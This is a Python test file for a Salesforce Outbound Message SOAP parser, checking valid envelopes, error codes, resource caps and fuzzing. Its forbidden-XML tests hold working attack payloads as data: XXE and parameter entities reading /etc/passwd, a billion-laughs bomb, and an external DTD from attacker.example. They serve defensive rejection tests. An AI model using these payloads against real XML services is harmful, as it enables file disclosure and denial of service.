"""Salesforce Outbound Message parsing: real-shaped input, every error code, hostile XML."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connector.intake.soap import (
    DEFAULT_MAX_ATTRIBUTES,
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_DEPTH,
    DEFAULT_MAX_ELEMENTS,
    MAX_ATTRIBUTES_PER_ELEMENT,
    SoapError,
    ack_response,
    build_outbound_message,
    parse_outbound_message,
    soap_fault,
)

# Shaped like Salesforce's documented Outbound Message: default namespace on <notifications>,
# sObject fields under the sf: prefix, xsi:type on sObject, nil fields, several notifications,
# pretty-printed with whitespace between elements.
REAL_ENVELOPE = b"""<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"
    xmlns:xsd="http://www.w3.org/2001/XMLSchema"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>00D5g000004ABCDEAA</OrganizationId>
   <ActionId>04k5g000000XyZ1AAK</ActionId>
   <SessionId xsi:nil="true"/>
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/60.0/00D5g000004ABCD</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/60.0/00D5g000004ABCD</PartnerUrl>
   <Notification>
    <Id>04l5g00000AbCdEAAV</Id>
    <sObject xsi:type="sf:Lead" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>00Q5g00000Lm1aBEAR</sf:Id>
     <sf:Company>Acme &amp; Sons</sf:Company>
     <sf:Country>DE</sf:Country>
     <sf:Email>ada@example.com</sf:Email>
     <sf:LeadSource xsi:nil="true"/>
     <sf:NumberOfEmployees>250</sf:NumberOfEmployees>
     <sf:OwnerId>0055g00000A1b2cAAB</sf:OwnerId>
    </sObject>
   </Notification>
   <Notification>
    <Id>04l5g00000AbCdFAAV</Id>
    <sObject xsi:type="sf:Lead" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>00Q5g00000Lm1aCEAR</sf:Id>
     <sf:Company>Globex</sf:Company>
     <sf:Country xsi:nil="true"/>
     <sf:Email></sf:Email>
    </sObject>
   </Notification>
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>
"""

ORG = "00D5g000004ABCDEAA"


def _error(body: bytes, **kwargs: int) -> SoapError:
    with pytest.raises(SoapError) as info:
        parse_outbound_message(body, **kwargs)
    return info.value


def _notifications(count: int) -> list[tuple[str, str, dict[str, str | None]]]:
    return [(f"04l{i:015d}", "Lead", {"Id": f"00Q{i:015d}"}) for i in range(count)]


# --- the happy path ---------------------------------------------------------------------


def test_parses_real_shaped_envelope() -> None:
    message = parse_outbound_message(REAL_ENVELOPE)
    assert message.organization_id == ORG
    assert message.action_id == "04k5g000000XyZ1AAK"
    assert message.session_id is None
    assert message.enterprise_url.startswith("https://acme.my.salesforce.com/services/Soap/c/")
    assert message.partner_url.endswith("/u/60.0/00D5g000004ABCD")
    assert len(message.notifications) == 2
    first, second = message.notifications
    assert first.notification_id == "04l5g00000AbCdEAAV"
    assert first.sobject_type == "Lead"
    assert first.sobject_id == "00Q5g00000Lm1aBEAR"
    assert first.fields == {
        "Id": "00Q5g00000Lm1aBEAR",
        "Company": "Acme & Sons",
        "Country": "DE",
        "Email": "ada@example.com",
        "LeadSource": None,
        "NumberOfEmployees": "250",
        "OwnerId": "0055g00000A1b2cAAB",
    }
    assert second.fields == {
        "Id": "00Q5g00000Lm1aCEAR",
        "Company": "Globex",
        "Country": None,
        "Email": "",
    }


def test_session_id_present() -> None:
    body = build_outbound_message(ORG, _notifications(1), session_id="00D!AQ0AQ.session")
    assert parse_outbound_message(body).session_id == "00D!AQ0AQ.session"


def test_session_id_absent() -> None:
    body = REAL_ENVELOPE.replace(b'<SessionId xsi:nil="true"/>', b"")
    assert parse_outbound_message(body).session_id is None


def test_builder_round_trips() -> None:
    fields: dict[str, str | None] = {
        "Id": "00Q000000000001AAA",
        "Company": "<Fish & \"Chips\"> 'Ltd'",
        "Description": "line one\r\nline two\ttabbed  ",
        "Phone": None,
        "Street": "",
        "City": "Zürich 東京",
    }
    body = build_outbound_message(
        ORG, [("04l000000000001AAA", "Lead", fields)], action_id="04k000000000009AAA"
    )
    message = parse_outbound_message(body)
    assert message.organization_id == ORG
    assert message.action_id == "04k000000000009AAA"
    (note,) = message.notifications
    assert (note.notification_id, note.sobject_type, note.sobject_id) == (
        "04l000000000001AAA",
        "Lead",
        "00Q000000000001AAA",
    )
    assert note.fields == fields


def test_exactly_100_notifications_is_fine() -> None:
    message = parse_outbound_message(build_outbound_message(ORG, _notifications(100)))
    assert len(message.notifications) == 100


def test_other_sobject_types_and_unprefixed_xsi_type() -> None:
    body = build_outbound_message(ORG, [("04l1", "Contact", {"Id": "003000000000001"})])
    assert parse_outbound_message(body).notifications[0].sobject_type == "Contact"
    body = body.replace(b'xsi:type="sf:Contact"', b'xsi:type="Contact"')
    assert parse_outbound_message(body).notifications[0].sobject_type == "Contact"


def test_builder_rejects_what_xml_cannot_carry() -> None:
    with pytest.raises(ValueError):
        build_outbound_message(ORG, [("n", "Lead", {"Id": "x", "Bad Name": "v"})])
    with pytest.raises(ValueError):
        build_outbound_message(ORG, [("n", "Lead", {"Id": "x", "F": "\x00"})])
    with pytest.raises(ValueError):
        build_outbound_message(ORG, [("n", "Lead", {"Company": "no id"})])
    with pytest.raises(ValueError):
        build_outbound_message(ORG, [("n", "Le ad", {"Id": "x"})])


# --- error codes ------------------------------------------------------------------------


def test_body_too_large() -> None:
    err = _error(REAL_ENVELOPE, max_bytes=len(REAL_ENVELOPE) - 1)
    assert (err.code, err.http_status) == ("body_too_large", 413)
    assert parse_outbound_message(REAL_ENVELOPE, max_bytes=len(REAL_ENVELOPE))


def test_oversize_is_rejected_before_parsing() -> None:
    # Not even XML: the cap must fire first.
    err = _error(b"\x00" * 2_000_000)
    assert (err.code, err.http_status) == ("body_too_large", 413)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b"<soapenv:Envelope",
        b"<a><b></a>",
        REAL_ENVELOPE[:-30],
        b"<?xml version='1.0' encoding='no-such-codec'?><a/>",
    ],
)
def test_malformed_xml(body: bytes) -> None:
    err = _error(body)
    assert (err.code, err.http_status) == ("malformed_xml", 400)


def test_malformed_utf8() -> None:
    body = REAL_ENVELOPE.replace(b"Globex", b"Glob\xff\xfeex")
    err = _error(body)
    assert (err.code, err.http_status) == ("malformed_xml", 400)
    err = _error(REAL_ENVELOPE.replace(b"Globex", b"Glob\xc3ex"))  # truncated sequence
    assert err.code == "malformed_xml"


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">
<soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&xxe;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope>
""" + REAL_ENVELOPE.split(b"?>", 1)[1]

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><x/>"""


@pytest.mark.parametrize(
    "body",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PLAIN_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion_laughs", "external_dtd", "plain_dtd", "parameter_entity"],
)
def test_forbidden_xml(body: bytes) -> None:
    err = _error(body)
    assert (err.code, err.http_status) == ("forbidden_xml", 400)
    assert "root:" not in err.message  # nothing from /etc/passwd leaks into the message


@pytest.mark.parametrize(
    "body",
    [
        b"<html><body>hi</body></html>",
        # SOAP 1.2 envelope namespace: not what Salesforce sends.
        b'<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body/></e:Envelope>',
        b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>',
        b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>'
        b"<notifications/></e:Body></e:Envelope>",  # wrong (no) namespace on the call
        b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>'
        b'<other xmlns="http://soap.sforce.com/2005/09/outbound"/></e:Body></e:Envelope>',
    ],
)
def test_not_outbound_message(body: bytes) -> None:
    err = _error(body)
    assert (err.code, err.http_status) == ("not_outbound_message", 400)


def test_too_many_notifications() -> None:
    err = _error(build_outbound_message(ORG, _notifications(101)))
    assert (err.code, err.http_status) == ("too_many_notifications", 400)
    assert "101" in err.message


def _maximal_message() -> bytes:
    """The largest message Salesforce sends here: 100 notifications of 200 fields each."""
    notes = [
        (
            f"04l{i:015d}",
            "Lead",
            {"Id": f"00Q{i:015d}", **{f"Field{j}__c": f"value {j}" for j in range(199)}},
        )
        for i in range(100)
    ]
    return build_outbound_message(ORG, notes)


# Elements in _maximal_message(): 8 in the envelope and call, then per notification
# <Notification>, <Id>, <sObject> and 200 fields. The deepest is a field: 6 levels.
MAXIMAL_ELEMENTS = 8 + 100 * (3 + 200)
MAXIMAL_DEPTH = 6


def test_maximal_real_message_passes_the_default_caps() -> None:
    body = _maximal_message()
    assert len(body) <= DEFAULT_MAX_BYTES
    message = parse_outbound_message(body)
    assert len(message.notifications) == 100
    assert all(len(n.fields) == 200 for n in message.notifications)
    assert DEFAULT_MAX_ELEMENTS >= 2 * MAXIMAL_ELEMENTS
    assert DEFAULT_MAX_DEPTH >= 2 * MAXIMAL_DEPTH


def test_element_and_depth_caps_are_exact() -> None:
    body = _maximal_message()
    assert parse_outbound_message(body, max_elements=MAXIMAL_ELEMENTS, max_depth=MAXIMAL_DEPTH)
    err = _error(body, max_elements=MAXIMAL_ELEMENTS - 1)
    assert (err.code, err.http_status) == ("too_many_elements", 413)
    err = _error(body, max_depth=MAXIMAL_DEPTH - 1)
    assert (err.code, err.http_status) == ("too_deep", 400)


def test_too_many_elements() -> None:
    # Under 1 MiB, inside a real envelope: 100,000 empty fields in one sObject.
    body = REAL_ENVELOPE.replace(b"<sf:Country>DE", b"<sf:X/>" * 100_000 + b"<sf:Country>DE")
    assert len(body) <= DEFAULT_MAX_BYTES
    err = _error(body)
    assert (err.code, err.http_status) == ("too_many_elements", 413)
    assert str(DEFAULT_MAX_ELEMENTS) in err.message


def test_too_deep() -> None:
    body = b"<a>" * 10_000 + b"</a>" * 10_000
    err = _error(body)
    assert (err.code, err.http_status) == ("too_deep", 400)
    assert str(DEFAULT_MAX_DEPTH) in err.message


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"<a>" + b"<b/>" * 60_000 + b"<unclosed", "too_many_elements"),
        (b"<a>" * 10_000 + b"<unclosed", "too_deep"),
    ],
)
def test_caps_fire_while_parsing(body: bytes, code: str) -> None:
    # The rest of the body is malformed: only a check made mid-parse can report the cap.
    assert _error(body).code == code


@pytest.mark.parametrize(
    ("old", "new", "mentions"),
    [
        (b"<OrganizationId>00D5g000004ABCDEAA</OrganizationId>", b"", "OrganizationId"),
        (
            b"<OrganizationId>00D5g000004ABCDEAA</OrganizationId>",
            b"<OrganizationId> </OrganizationId>",
            "OrganizationId",
        ),
        (b"<ActionId>04k5g000000XyZ1AAK</ActionId>", b"", "ActionId"),
        (b"<Id>04l5g00000AbCdEAAV</Id>", b"", "Notification 0"),
        (b"<sf:Id>00Q5g00000Lm1aCEAR</sf:Id>", b"", "Notification 1"),
        (b"<sf:Id>00Q5g00000Lm1aCEAR</sf:Id>", b'<sf:Id xsi:nil="true"/>', "Id"),
        (b'xsi:type="sf:Lead"', b"", "xsi:type"),
    ],
)
def test_missing_field(old: bytes, new: bytes, mentions: str) -> None:
    body = REAL_ENVELOPE.replace(old, new, 1)
    assert body != REAL_ENVELOPE
    err = _error(body)
    assert (err.code, err.http_status) == ("missing_field", 400)
    assert mentions in err.message


def test_missing_sobject_and_no_notifications() -> None:
    start = REAL_ENVELOPE.index(b"<Notification>")
    end = REAL_ENVELOPE.rindex(b"</Notification>") + len(b"</Notification>")
    empty = REAL_ENVELOPE[:start] + REAL_ENVELOPE[end:]
    assert _error(empty).code == "missing_field"
    no_sobject = build_outbound_message(ORG, _notifications(1))
    s = no_sobject.index(b"<sObject")
    e = no_sobject.index(b"</sObject>") + len(b"</sObject>")
    err = _error(no_sobject[:s] + no_sobject[e:])
    assert err.code == "missing_field"
    assert "sObject" in err.message


# --- responses --------------------------------------------------------------------------


def test_ack_response_is_exact() -> None:
    assert ack_response() == (
        b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
        b"<soapenv:Body>"
        b'<notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound">'
        b"<Ack>true</Ack></notificationsResponse></soapenv:Body></soapenv:Envelope>"
    )
    assert b"<Ack>false</Ack>" in ack_response(False)


def test_soap_fault_escapes_and_is_well_formed() -> None:
    import defusedxml.ElementTree as safe_et

    body = soap_fault("bad <input> & \x00 stuff")
    root = safe_et.fromstring(body)
    ns = "{http://schemas.xmlsoap.org/soap/envelope/}"
    fault = root.find(f"{ns}Body/{ns}Fault")
    assert fault is not None
    assert fault.findtext("faultcode") == "soapenv:Client"
    assert fault.findtext("faultstring") == "bad <input> & \ufffd stuff"
    assert b"soapenv:Server" in soap_fault("oops", faultcode="Server")
    with pytest.raises(ValueError):
        soap_fault("x", faultcode="Nope")


# --- fuzz: nothing but SoapError, ever ----------------------------------------------------

_VALID = build_outbound_message(
    ORG,
    [
        ("04l000000000001AAA", "Lead", {"Id": "00Q000000000001AAA", "Company": "A", "X": None}),
        ("04l000000000002AAA", "Lead", {"Id": "00Q000000000002AAA", "Email": "b@example.com"}),
    ],
)


def _parse_or_soap_error(body: bytes) -> None:
    try:
        parse_outbound_message(body)
    except SoapError as exc:
        assert exc.http_status in (400, 413)
        assert exc.code


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=2048))
def test_fuzz_random_bytes(body: bytes) -> None:
    _parse_or_soap_error(body)


@st.composite
def _mutated(draw: st.DrawFn) -> bytes:
    data = bytearray(_VALID)
    for _ in range(draw(st.integers(1, 8))):
        op = draw(st.sampled_from(["flip", "delete", "insert", "truncate", "splice"]))
        pos = draw(st.integers(0, max(len(data) - 1, 0)))
        if op == "flip" and data:
            data[pos] = draw(st.integers(0, 255))
        elif op == "delete":
            del data[pos : pos + draw(st.integers(1, 40))]
        elif op == "insert":
            data[pos:pos] = draw(
                st.sampled_from(
                    [
                        b"<",
                        b">",
                        b"&",
                        b"&amp;",
                        b"<!DOCTYPE x>",
                        b"</a>",
                        b"\xff",
                        b"\x00",
                        b'xsi:nil="true"',
                        b"<Notification>",
                        b"]]>",
                        b"<![CDATA[",
                        b"&#0;",
                    ]
                )
            )
        elif op == "truncate":
            del data[pos:]
        elif op == "splice":
            other = draw(st.integers(0, len(_VALID)))
            data[pos:pos] = _VALID[other : other + draw(st.integers(1, 80))]
    return bytes(data)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_mutated())
def test_fuzz_mutated_envelopes(body: bytes) -> None:
    _parse_or_soap_error(body)


_xml_text = st.text(
    st.characters(
        codec="utf-8",
        exclude_categories=["Cs"],
        exclude_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12"
        "\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\ufffe\uffff",
    ),
    max_size=40,
)
_field_name = st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,20}", fullmatch=True)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.from_regex(r"04l[A-Za-z0-9]{15}", fullmatch=True),
            st.sampled_from(["Lead", "Contact", "Account"]),
            st.dictionaries(_field_name, st.none() | _xml_text, max_size=6),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_builder_round_trip_fuzz(
    specs: list[tuple[str, str, dict[str, str | None]]],
) -> None:
    notifications = []
    for i, (nid, kind, fields) in enumerate(specs):
        full: dict[str, str | None] = {"Id": f"00Q{i:015d}"}
        full.update({k: v for k, v in fields.items() if k != "Id"})
        notifications.append((nid, kind, full))
    message = parse_outbound_message(build_outbound_message(ORG, notifications))
    assert [(n.notification_id, n.sobject_type, n.fields) for n in message.notifications] == (
        notifications
    )


# --- what a parse costs: attributes and text ---------------------------------------------


def test_ninety_thousand_attributes_on_one_element_are_refused_before_expat() -> None:
    attrs = b" ".join(b'a%d="1"' % i for i in range(90_000))
    body = REAL_ENVELOPE.replace(b"<Notification>", b"<Notification " + attrs + b">", 1)
    assert len(body) <= DEFAULT_MAX_BYTES
    err = _error(body)
    assert (err.code, err.http_status) == ("too_many_attributes", 413)
    assert err.message == (
        f"an XML element with more than {MAX_ATTRIBUTES_PER_ELEMENT} attributes; "
        "an Outbound Message has at most 3"
    )
    # namespace declarations count too; single quotes and spaces around "=" do not hide any
    decls = b" ".join(b"xmlns:n%d = 'u%d'" % (i, i) for i in range(MAX_ATTRIBUTES_PER_ELEMENT + 1))
    assert (
        _error(REAL_ENVELOPE.replace(b"<Notification>", b"<Notification " + decls + b">", 1)).code
        == "too_many_attributes"
    )
    # at the per-element cap an element is fine
    ok = b" ".join(b'a%d="1"' % i for i in range(MAX_ATTRIBUTES_PER_ELEMENT))
    assert parse_outbound_message(
        REAL_ENVELOPE.replace(b"<Notification>", b"<Notification " + ok + b">", 1)
    )


def test_attributes_are_counted_across_elements() -> None:
    tag = b"<sf:X " + b" ".join(b'a%d="1"' % i for i in range(10)) + b"/>"
    body = REAL_ENVELOPE.replace(b"<sf:Country>DE", tag * 6_000 + b"<sf:Country>DE", 1)
    assert len(body) <= DEFAULT_MAX_BYTES
    err = _error(body)
    assert (err.code, err.http_status) == ("too_many_attributes", 413)
    assert str(DEFAULT_MAX_ATTRIBUTES) in err.message
    # the real envelope's own attributes are well under a tight cap
    assert parse_outbound_message(REAL_ENVELOPE, max_attributes=12)
    assert parse_outbound_message(REAL_ENVELOPE, max_attributes=5)  # xmlns are no attributes
    assert _error(REAL_ENVELOPE, max_attributes=4).code == "too_many_attributes"


def test_pieces_of_text_are_counted() -> None:
    err = _error(REAL_ENVELOPE, max_text_pieces=10)
    assert (err.code, err.http_status) == ("too_much_text", 413)
    assert err.message == ("more than 10 pieces of XML text; an Outbound Message has far fewer")
    # 40,000 elements (under their cap), each with text and a tail: 80,000 pieces
    pieces = REAL_ENVELOPE.replace(
        b"<sf:Company>Globex", b"<sf:Company>Globex" + b"<sf:X>a</sf:X> " * 40_000, 1
    )
    assert len(pieces) <= DEFAULT_MAX_BYTES
    assert _error(pieces).code == "too_much_text"
    assert parse_outbound_message(_maximal_message())  # the largest real shape passes


def test_a_large_body_is_parsed_in_the_parser_process_with_the_same_answers() -> None:
    """Over INLINE_PARSE_BYTES the parse runs in another process: its result and its
    SoapError come back whole (code, status, message)."""
    import asyncio
    import pickle

    from connector.intake.parsing import INLINE_PARSE_BYTES, close_parsers, parse_body

    err = SoapError("too_deep", 400, "x")
    assert repr(pickle.loads(pickle.dumps(err))) == repr(err)
    body = _maximal_message()
    assert len(body) > INLINE_PARSE_BYTES
    bad = REAL_ENVELOPE.replace(b"<sf:Country>DE", b"<sf:X/>" * 100_000 + b"<sf:Country>DE")
    try:
        message = asyncio.run(parse_body(parse_outbound_message, body, DEFAULT_MAX_BYTES))
        assert message == parse_outbound_message(body)
        with pytest.raises(SoapError) as info:
            asyncio.run(parse_body(parse_outbound_message, bad, DEFAULT_MAX_BYTES))
        assert repr(info.value) == repr(_error(bad))
    finally:
        close_parsers()
